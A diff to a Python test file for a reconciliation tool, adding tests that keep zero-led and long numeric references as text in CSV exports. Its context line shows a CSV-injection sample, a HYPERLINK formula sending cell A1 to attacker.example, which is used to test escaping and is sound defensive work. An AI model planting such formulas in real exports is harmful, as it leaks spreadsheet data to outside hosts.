@@ -15,7 +15,7 @@ import json
 
 import pytest
 
-from partnerkit.csvcell import spreadsheet_safe
+from partnerkit.csvcell import spreadsheet_id, spreadsheet_safe
 from reconcile.matcher import match_day
 from tests.reconcile.reconcile_helpers import DAY, at
 
@@ -38,6 +38,37 @@ FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"refund")'
 ])
 def test_a_cell_a_spreadsheet_would_run_is_written_as_text(text, written):
     assert spreadsheet_safe(text) == written
+
+
+@pytest.mark.parametrize("text, written", [
+    ("0012345", "'0012345"),                          # Excel drops the zeros: 12345
+    ("1234567890123456789", "'1234567890123456789"),  # Excel keeps 15 digits: 1234567890123450000
+    ("123456789012345", "123456789012345"),          # 15 digits: kept as they are
+    ("5007", "5007"), ("0", "0"), ("RCH0012", "RCH0012"), ("0.50", "0.50"),
+    ("=1+1", "'=1+1"), ("-5.00", "-5.00"),           # and what spreadsheet_safe does
+])
+def test_a_reference_a_spreadsheet_would_turn_into_another_number_is_written_as_text(text, written):
+    assert spreadsheet_id(text) == written
+
+
+@pytest.fixture
+def zeros(db, ledger):
+    """A recharge whose reference_number has leading zeros (missing_debit) and a debit whose transaction id has
+    19 digits (orphan_transaction): references finance quotes to the provider, which Excel would change."""
+    ledger.recharge(ref="0012345")
+    ledger.tx("-7.00", id="1234567890123456789", type="RECHARGE")
+    ledger.read_in_full()
+    match_day(db, DAY, now=at(2, day=DAY.replace(day=DAY.day + 1)))
+
+
+@pytest.mark.parametrize("command", [["report", "--date", DAY.isoformat()], ["drifts", "list"]])
+def test_a_reference_of_digits_keeps_its_digits_in_the_csv_and_as_it_came_in_json(invoke, zeros, command):
+    as_csv = invoke(*command, "--format", "csv")
+    assert as_csv.exit_code == 0, as_csv.output
+    assert sorted(_cells(as_csv.stdout, "reference")) == ["'0012345", "'1234567890123456789"]
+    as_json = json.loads(invoke(*command, "--format", "json").stdout)
+    drifts = as_json["drifts"] if isinstance(as_json, dict) else as_json
+    assert sorted(d["reference"] for d in drifts) == ["0012345", "1234567890123456789"]
 
 
 @pytest.fixture
